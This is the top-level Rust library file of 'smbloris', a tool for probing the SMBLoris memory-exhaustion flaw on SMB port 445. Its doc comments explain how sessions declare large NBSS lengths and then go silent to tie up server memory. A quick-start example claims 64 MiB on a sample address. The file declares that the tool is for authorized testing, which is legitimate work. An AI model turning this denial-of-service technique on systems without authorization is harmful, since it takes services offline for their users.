//! smbloris - Interactive NBSS memory-exhaustion prober.
//!
//! Probes the SMBLoris class of vulnerability: a file/print-sharing service
//! that sizes a receive buffer from the NBSS length prefix before any
//! payload arrives. Each session connects, declares a large forthcoming
//! message in the 4-byte framing header, then goes silent — the peer holds
//! the reserved buffer for as long as the connection lives. The pool scales
//! that to an operator-chosen aggregate, one claim per connection.
//!
//! Intended for authorized testing of services you operate or have
//! permission to probe.
//!
//! # Architecture
//!
//! ```text
//! ┌────────┐  commands   ┌─────────────┐  open/close  ┌─────────┐
//! │  Repl  ├────────────►│ SessionPool ├─────────────►│ Session │──► target:445
//! └────────┘             └─────────────┘              └─────────┘
//!      ▲                                                   │
//!      └────────────── lifecycle signals ──────────────────┘
//!                        (SessionObserver)
//! ```
//!
//! The pool is the core: it turns "grow the total claim by X bytes" and
//! "release X bytes, oldest first" into batches of session opens and closes
//! under the per-session cap [`MAX_COMMIT`], and lazily prunes sessions
//! that died behind its back.
//!
//! # Quick Start
//!
//! ```no_run
//! use smbloris::{Result, SessionPool};
//!
//! #[tokio::main]
//! async fn main() -> Result<()> {
//!     let mut pool = SessionPool::new("192.0.2.10");
//!
//!     // Claim 64 MiB across ceil(64Mi / 131071) sessions.
//!     let report = pool.grow_by(64 << 20).await;
//!     println!(
//!         "{} sessions opened, {} bytes claimed",
//!         report.added,
//!         pool.total_committed()
//!     );
//!
//!     // Release roughly half of it, oldest sessions first.
//!     pool.shrink_by(32 << 20).await;
//!     pool.clear().await;
//!     Ok(())
//! }
//! ```
//!
//! # Modules
//!
//! | Module | Description |
//! |--------|-------------|
//! | [`error`] | Error types and [`Result`] alias |
//! | [`protocol`] | NBSS framing constants and header encoding |
//! | [`shell`] | Interactive command shell |
//! | [`transport`] | Sessions and the session pool |

// ============================================================================
// Modules
// ============================================================================

/// Error types and result aliases.
///
/// All fallible operations return [`Result<T>`] which uses [`Error`].
pub mod error;

/// NBSS framing constants and claim-header encoding.
pub mod protocol;

/// Interactive command shell: command grammar, size expressions, prompt
/// loop.
pub mod shell;

/// TCP transport layer: sessions and the session pool.
pub mod transport;

// ============================================================================
// Re-exports
// ============================================================================

// Error types
pub use error::{Error, Result};

// Protocol constants
pub use protocol::{MAX_COMMIT, SMB_PORT};

// Shell types
pub use shell::{Command, MarkerObserver, Repl, parse_size_expression};

// Transport types
pub use transport::{
    DEFAULT_CONNECT_TIMEOUT, GrowReport, NullObserver, Session, SessionObserver, SessionPool,
};
